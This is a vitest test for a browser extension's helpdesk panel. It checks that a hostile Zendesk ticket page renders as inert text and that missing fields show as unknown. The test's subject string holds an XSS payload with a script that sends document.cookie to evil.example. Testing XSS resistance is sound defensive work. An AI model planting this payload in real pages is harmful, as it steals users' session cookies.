import { readFileSync } from 'node:fs';

import { afterAll, beforeAll, expect, test } from 'vitest';

import { startHarness, type Harness } from './harness';

/**
 * A Zendesk page built to attack whoever reads it (test/fixtures/zendesk/hostile-ticket.html):
 * markup and script text in the subject and tags, live <script> and <img onerror> in the bodies,
 * missing fields, and a 2 MB customer message added as the page is served.
 */
const hostileUrl = 'https://northwind.zendesk.com/agent/tickets/48290';
const hostileSubject =
  '<img src=x onerror=alert(1)> Refund <script>fetch("https://evil.example/?c="+document.cookie)</script>';

function hostilePage(): string {
  const html = readFileSync('test/fixtures/zendesk/hostile-ticket.html', 'utf8');
  const bulk = 'Modem log: resync at 20:14, SNR 3.1 dB, CRC errors 18422. '.repeat(36_000);
  return html.replace('Log follows:</p>', `Log follows:${bulk}</p>`);
}

let harness: Harness;
const contentScriptErrors: string[] = [];

beforeAll(async () => {
  const page = hostilePage();
  harness = await startHarness({
    routes: [
      (request, response) => {
        if (request.headers.host !== 'northwind.zendesk.com' || request.url !== '/agent/tickets/48290')
          return false;
        response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(page);
        return true;
      },
    ],
  });
  harness.helpdeskTab.on('dialog', (dialog) => void dialog.dismiss());
  harness.helpdeskTab.on('console', (message) => {
    if (message.type() === 'error' && message.location().url.startsWith('chrome-extension://')) {
      contentScriptErrors.push(message.text());
    }
  });
});

afterAll(() => harness?.close());

test('the panel shows the hostile subject as text, runs none of it, and the content script does not fail', async () => {
  await harness.helpdeskTab.goto(hostileUrl);
  await harness.panel.waitForTicket('Zendesk #48290');
  expect(await harness.panel.heading()).toBe(hostileSubject);
  const panel = harness.panel.page;
  expect(await panel.locator('main img, main script, main b').count()).toBe(0);
  expect(await panel.evaluate(() => document.querySelectorAll('img, iframe, object, embed').length)).toBe(0);
  // Missing requester and priority are shown as missing, not guessed.
  expect(await harness.panel.requester()).toBe('Unknown requester');
  expect(await harness.panel.factLabels()).toEqual(['Web form', 'Status New']);
  expect(contentScriptErrors).toEqual([]);
});
